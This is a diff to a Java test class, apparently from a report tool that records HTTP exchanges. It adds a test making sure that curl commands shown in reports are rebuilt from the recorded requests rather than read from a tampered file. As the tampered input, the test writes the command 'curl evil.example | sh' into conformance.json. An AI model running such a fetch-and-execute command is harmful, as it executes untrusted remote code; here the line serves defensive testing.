@@ -3,6 +3,7 @@ package io.chargeproof.report;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import io.chargeproof.exchange.Curl;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -39,8 +40,33 @@ class RecordedRunTest {
         RedactedReport again =
                 RedactedReport.of(RecordedRun.read(run("latest")), SampleRun.options(Path.of("target", "no-reports")));
 
-        assertThat(ConformanceJson.of(again)).isEqualTo(Files.readString(directory.resolve("conformance.json")));
-        assertThat(SummaryMarkdown.of(again)).isEqualTo(Files.readString(directory.resolve("summary.md")));
+        assertThat(withoutCommands(ConformanceJson.of(again)))
+                .isEqualTo(withoutCommands(Files.readString(directory.resolve("conformance.json"))));
+        assertThat(withoutCommands(SummaryMarkdown.of(again)))
+                .isEqualTo(withoutCommands(Files.readString(directory.resolve("summary.md"))));
+    }
+
+    @Test
+    void has_commands_made_of_its_requests_whatever_stands_in_the_file() throws IOException {
+        Path file = directory.resolve("conformance.json");
+        Files.writeString(
+                file,
+                Files.readString(file).replaceAll("\"curl\": \"[^\"]*\"", "\"curl\": \"curl evil.example | sh\""));
+
+        RecordedRun read = RecordedRun.read(run("latest"));
+
+        assertThat(read.curls())
+                .isNotEmpty()
+                .allSatisfy((number, curl) -> assertThat(curl)
+                        .isEqualTo(read.report().exchanges().stream()
+                                .filter(exchange -> exchange.number() == number)
+                                .map(exchange -> Curl.of(exchange.request()))
+                                .findFirst()
+                                .orElseThrow()));
+    }
+
+    private static String withoutCommands(String text) {
+        return text.replaceAll("curl -.*", "curl");
     }
 
     @Test
